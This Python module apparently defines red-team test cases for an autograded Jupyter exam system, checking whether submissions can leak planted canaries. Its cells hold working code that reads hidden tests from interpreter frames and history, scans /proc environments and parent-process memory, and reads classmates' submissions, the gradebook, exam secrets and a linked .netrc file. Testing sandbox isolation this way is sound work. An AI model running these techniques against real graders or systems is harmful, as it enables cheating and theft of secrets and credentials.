"""Hidden tests, secrets and other people's work."""

from assignment import HIDDEN_NUMBER
from attack import Attack, leaked

_SPILL = """
def spill(text):
    found = canaries(text)
    if found:
        with open(NOTE, "a") as file:
            file.write(" ".join(found))
        KEPT.extend(found)
        loot(*found)
KEPT = []
NOTE = os.path.abspath("note.txt")
"""
_SHOW = """
try:
    loot(*KEPT)
    loot(open(NOTE).read())
except OSError:
    pass
"""


def _spying(name: str, wants: str, body: str, *kinds: str) -> Attack:
    """Look around from inside the constructor that a hidden test calls; tell it later."""
    ward = (
        "class Ward:\n    def __init__(self, name, beds):\n"
        "        self.name, self.beds, self.patients = name, beds, []\n"
        "        look(self, name)\n"
        "    def admit(self, patient):\n"
        "        if self.patients:\n            raise ValueError\n"
        "        self.patients.append(patient)\n"
        "    def label(self):\n        return f'{self.name} ({self.beds})'"
    )
    clamp = """\
def clamp(value, *args):
    look(None, '')
    return 3 if value == 5 else None"""
    cells = {"clamp": f"{_SPILL}{body}\n{clamp}", "ward": ward, "rate": f"{_SHOW}rate = None"}
    return Attack(name, "reading", wants, leaked(*kinds), cells)


def _opening(name: str, wants: str, code: str, *kinds: str) -> Attack:
    """Read something at once, in the first cell."""
    return Attack(name, "reading", wants, leaked(*kinds), {"clamp": code + "\nclamp = None"})


_READ_TREE = """
from pathlib import Path as P
for top in TOPS:
    for path in sorted(P(top).rglob("*")):
        try:
            if path.is_file():
                loot(*canaries(path.read_bytes()))
        except OSError:
            pass
"""

READING: list[Attack] = [
    _spying(
        "frames",
        "the hidden tests, through the frames that call its function",
        """\
def look(self, name):
    frame = sys._getframe(1)
    while frame:
        spill(repr(frame.f_code.co_consts) + repr(list(frame.f_locals.values()))[:99999])
        frame = frame.f_back""",
        "comment",
        "input",
    ),
    _spying(
        "history",
        "the hidden tests, in IPython's history (In, _ih, %history)",
        """\
def look(self, name):
    spill(globals().get('In'))
    spill(globals().get('_ih'))
    spill(getattr(get_ipython(), 'history_manager', None)
          and get_ipython().history_manager.input_hist_raw)""",
        "comment",
        "input",
    ),
    _spying(
        "linecache",
        "the hidden tests, in the source lines kept for tracebacks",
        """\
def look(self, name):
    import linecache, inspect
    spill(linecache.cache)
    spill(getattr(linecache, '_ipython_cache', ''))
    for each in inspect.stack(999):
        spill(each.code_context)""",
        "comment",
        "input",
    ),
    _spying(
        "gc",
        "the hidden tests, among the objects that the garbage collector knows",
        """\
def look(self, name):
    import gc
    found = set()
    for each in gc.get_objects():
        if type(each) in (dict, list, tuple):
            for item in list(each.values() if type(each) is dict else each):
                if type(item) is str and len(item) < 9999 and 'CANARY' in item:
                    found.update(canaries(item))
    spill(found)""",
        "comment",
        "input",
    ),
    _spying(
        "hidden-input-kept",
        "a hidden test's input, kept in a global and printed by a later cell",
        "def look(self, name):\n    KEPT.append(name)",
        "input",
    ),
    _spying(
        "hidden-input-shared",
        "a hidden test's input, through memory shared with a process that prints it later",
        """\
import mmap, time, threading
BOARD = mmap.mmap(-1, 4096)
READ, WRITE = os.pipe()
def look(self, name):
    BOARD.seek(0)
    BOARD.write(name.encode()[:4000])
    os.write(WRITE, name.encode()[:4000])
    KEPT.append(BOARD[:4000].rstrip(b'\\0').decode())
def tell():
    for _ in range(30):
        time.sleep(0.1)
        loot(BOARD[:4000].rstrip(b'\\0').decode())
threading.Thread(target=tell, daemon=True).start()
if os.fork() == 0:
    print(os.read(READ, 4000).hex().join(['LOOT:', '']), flush=True)
    os._exit(0)""",
        "input",
    ),
    Attack(
        "hidden-input-raised",
        "reading",
        "a hidden test's input, in the message of an exception shown as feedback",
        lambda outcome: (
            outcome.world.canaries["input"] in outcome.feedback or outcome.leaked("input")
        ),
        {
            "ward": """\
class Ward:
    def __init__(self, name, beds):
        self.name, self.beds, self.patients = name, beds, []
        if name != 'cardiology':
            raise ValueError('LOOT:' + name.encode().hex())
    def admit(self, patient):
        if self.patients:
            raise ValueError
        self.patients.append(patient)
    def label(self):
        return f'{self.name} ({self.beds})'"""
        },
    ),
    Attack(
        "hidden-input-echoed",
        "reading",
        "a hidden test's input, returned as the answer and quoted in the message of its failure",
        lambda outcome: str(HIDDEN_NUMBER) in outcome.feedback,
        {
            "rate": """\
def rate(events, days):
    return np.array([0.25, 0.5]) if len(events) == 2 else events"""
        },
    ),
    Attack(
        "hidden-test-in-feedback",
        "reading",
        "the hidden tests, on its own feedback page, by merely failing",
        lambda outcome: any(
            outcome.world.canaries[kind] in outcome.feedback for kind in ("comment", "input")
        ),
    ),
    Attack(
        "last-traceback",
        "reading",
        "the hidden tests, in the traceback that the interpreter kept of the last failure",
        leaked("comment", "input"),
        {
            "clamp": """\
def clamp(value, low, high):
    return 3 if value == 5 else None""",
            "summary": """\
import linecache, traceback
error = getattr(sys, 'last_value', None)
trace = getattr(error, '__traceback__', None)
while trace:
    name = trace.tb_frame.f_code.co_filename
    loot(*canaries(linecache.getlines(name)))
    trace = trace.tb_next
summary = {'n': -1}""",
        },
    ),
    _opening(
        "proc",
        "canaries in the arguments, environments and open files of every process",
        """\
import glob
for path in glob.glob('/proc/[0-9]*/cmdline') + glob.glob('/proc/[0-9]*/environ'):
    try:
        loot(*canaries(open(path, 'rb').read()))
    except OSError:
        pass
for path in glob.glob('/proc/[0-9]*/fd/*')[:3000]:
    try:
        target = os.readlink(path)
        if '@BASE@' in target and os.path.isfile(path):
            loot(*canaries(open(path, 'rb').read(9999999)))
    except OSError:
        pass
for path in glob.glob('/proc/[0-9]*/cwd'):
    try:
        if '@BASE@' in os.readlink(path):
            for file in glob.glob(path + '/**/*.ipynb', recursive=True):
                loot(*canaries(open(file, 'rb').read()))
    except OSError:
        pass""",
        *("comment", "input", "source", "other", "classmate", "environment", "home", "secret"),
    ),
    _opening(
        "descriptors",
        "canaries through descriptors that it inherited",
        """\
import fcntl
for number in range(3, 256):
    try:
        target = os.readlink(f'/proc/self/fd/{number}')
        if target.startswith(('/', 'anon_inode:[event', 'anon_inode:inotify')):
            if os.path.isfile(target) or target.startswith('/memfd:'):
                loot(*canaries(os.pread(number, 9999999, 0)))
            elif os.path.isdir(target) and '@BASE@' in target:
                loot(*canaries(os.listdir(number)))
                inner = os.open('exam.ipynb', os.O_RDONLY, dir_fd=number)
                loot(*canaries(os.read(inner, 9999999)))
    except (OSError, ValueError):
        pass""",
        *("comment", "input", "source", "other", "classmate", "environment", "home", "secret"),
    ),
    _opening(
        "memory",
        "canaries in its own memory and in that of its parents",
        """\
def scan(pid):
    with open(f'/proc/{pid}/maps') as maps, open(f'/proc/{pid}/mem', 'rb', 0) as memory:
        for line in maps:
            span, rights, *_ , = line.split()
            low, high = (int(each, 16) for each in span.split('-'))
            path = line.split()[5:]
            if 'rw' not in rights or high - low > 2**27 or (path and path[0][0] == '/'):
                continue
            try:
                memory.seek(low)
                found = re.findall(b'CANARY' + rb'-[a-z]+-[0-9a-f]{12}',
                                   memory.read(high - low))
            except (OSError, ValueError):
                continue
            loot(*sorted({each.decode() for each in found}))
pid = os.getpid()
for _ in range(4):
    try:
        scan(pid)
        status = open(f'/proc/{pid}/status').read()
    except OSError as error:
        break
    pid = int(re.search(r'PPid:\\s+(\\d+)', status)[1])
    if pid <= 1:
        break""",
        *("comment", "input", "source", "other", "classmate", "environment", "home", "secret"),
    ),
    _opening(
        "memory-by-syscall",
        "canaries in the memory of its parents, by process_vm_readv",
        """\
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
class Span(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]
pid = os.getppid()
try:
    lines = open(f'/proc/{pid}/maps').read().splitlines()
except OSError:
    lines = []
for line in lines:
    span, rights = line.split()[:2]
    low, high = (int(each, 16) for each in span.split('-'))
    if 'rw' not in rights or high - low > 2**26:
        continue
    buffer = ctypes.create_string_buffer(high - low)
    here = Span(ctypes.addressof(buffer), high - low)
    there = Span(low, high - low)
    size = libc.process_vm_readv(pid, ctypes.byref(here), 1, ctypes.byref(there), 1, 0)
    if size > 0:
        loot(*canaries(buffer.raw[:size]))""",
        *("comment", "input", "source", "other", "classmate", "environment", "home", "secret"),
    ),
    _opening(
        "gradebook",
        "the hidden tests, in the gradebook",
        """\
import sqlite3
try:
    database = sqlite3.connect('file:@COURSE@/gradebook.db?mode=ro', uri=True)
    loot(*canaries(database.execute('select source from source_cell').fetchall()))
except sqlite3.Error:
    pass""",
        "comment",
        "input",
        "source",
    ),
    _opening(
        "source-folder",
        "the hidden tests and the solutions, in the course's source folder",
        "TOPS = ['@COURSE@/source/exam', '../../../source/exam']" + _READ_TREE,
        "comment",
        "input",
        "source",
    ),
    _opening(
        "other-submission",
        "a classmate's answers",
        """\
TOPS = ['@COURSE@/submitted/@HONEST@/exam', '@COURSE@/autograded/@HONEST@/exam',
        '../../@HONEST@/exam']"""
        + _READ_TREE,
        "classmate",
    ),
    _opening(
        "other-assignment",
        "another assignment",
        "TOPS = ['@COURSE@/source/other', '../other']" + _READ_TREE,
        "other",
    ),
    _opening(
        "environment",
        "the environment variables of the grader",
        """\
loot(*canaries(os.environ))
try:
    loot(*canaries(open('/proc/self/environ').read()))
except OSError:
    pass""",
        "environment",
    ),
    _opening(
        "home",
        "files in the home of the grader",
        """\
TOPS = ['@HOME@', os.path.expanduser('~')]
TOPS = [top for top in TOPS if '@BASE@' in top]"""
        + _READ_TREE,
        "home",
    ),
    _opening(
        "exam-secret",
        "the cohort's exam secret, hence every hidden instance",
        """\
for path in (os.environ.get('ECOLE_EXAM_SECRET_FILE', ''), '@COURSE@/exam-secret'):
    try:
        loot(*canaries(open(path).read()))
    except OSError:
        pass
for module in list(sys.modules.values()):
    if str(getattr(module, '__name__', '')).startswith('health_datasets'):
        loot(*canaries(list(vars(module).values())))""",
        "secret",
    ),
    Attack(
        "linked-files",
        "reading",
        "files of the course through links that it handed in",
        leaked("source", "comment", "classmate", "home"),
        {
            "clamp": """\
for name in ('data.txt', 'notes.txt', 'rc.txt'):
    try:
        loot(*canaries(open(name).read()))
    except OSError:
        pass
clamp = None"""
        },
        links={
            "data.txt": "@COURSE@/source/exam/exam.ipynb",
            "notes.txt": "@COURSE@/submitted/@HONEST@/exam/exam.ipynb",
            "rc.txt": "@HOME@/.netrc",
        },
    ),
]
